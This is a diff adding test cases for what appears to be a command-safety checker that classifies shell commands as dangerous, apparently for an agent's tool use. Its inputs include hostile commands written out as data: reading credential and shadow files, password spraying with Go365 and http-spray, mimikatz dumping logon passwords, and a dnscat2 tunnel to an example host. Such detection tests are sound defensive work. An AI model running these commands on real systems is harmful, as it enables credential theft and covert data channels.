@@ -5863,3 +5863,42 @@ describe('a later stop, on the 546th and 551st read after they were held out and
     if (reason) expect(r.reasons.join('; ')).toContain(reason);
   });
 });
+
+describe('the next stop, on the thirteen held out read after the last stop: what they taught', () => {
+  it.each([
+    // yum's minimal security update changes the machine's packages as `update` does.
+    ['yum -y update-minimal --security --sec-severity=Important', true, 'installed packages'],
+    ['yum check-update', false],
+    // Debian's MySQL maintenance password; a copy of the password hashes under its own name.
+    ['cat /etc/mysql/debian.cnf', true, 'secrets'],
+    ['cat /tmp/shadow', true, 'secrets'],
+    ['vim shadow', true, 'secrets'],
+    ['cat /etc/shadow-', true, 'secrets'],
+    ['ls packages/shadow/src', false],
+    ['gcc -Wno-error=shadow -c main.c', false],
+    ['cat src/shadow.ts', false],
+    // Patches mailed out; a dry run sends nothing.
+    ['git send-email --annotate -1', true, 'sends mail'],
+    ['git send-email --dry-run --to list@example.org HEAD^', false],
+    ['git imap-send < 0001-fix.patch', true, 'mailbox'],
+    ['git format-patch -1', false],
+    // A lab's attacker and victim, and a login, by their make targets.
+    ['make run-attacker', true, 'attack'],
+    ['make launch_victim', true, 'attack'],
+    ['make docker-login', true, 'logs in'],
+    ['make run-tests', false],
+    ['make blogin', false],
+    // A list of accounts beside a password: a spray.
+    ["./Go365 -endpoint rst -ul ./user_list.txt -p 'coolpasswordbro!123' -d example.com", true, 'list of accounts'],
+    ["http-spray -t https://mail.example.com/rpc/ -m basic -u ./users.txt -p ''", true, 'list of accounts'],
+    ['./report -u users.txt -o out.csv', false],
+    // A Windows program run from the current directory (`.\name`, which the shell reads as `.name`).
+    ['.\\mimikatz "privilege::debug" "sekurlsa::logonpasswords" exit', true, 'passwords'],
+    ['.\\dnscat2.exe tunnel.example.com --secret KEY', true, 'tunnel'],
+    ['./.hidden-tool --version', false],
+  ] as [string, boolean, string?][])('%s → dangerous %s', (cmd, dangerous, reason) => {
+    const r = checkCommand(cmd, WS);
+    expect(r.dangerous, r.reasons.join('; ')).toBe(dangerous);
+    if (reason) expect(r.reasons.join('; ')).toContain(reason);
+  });
+});
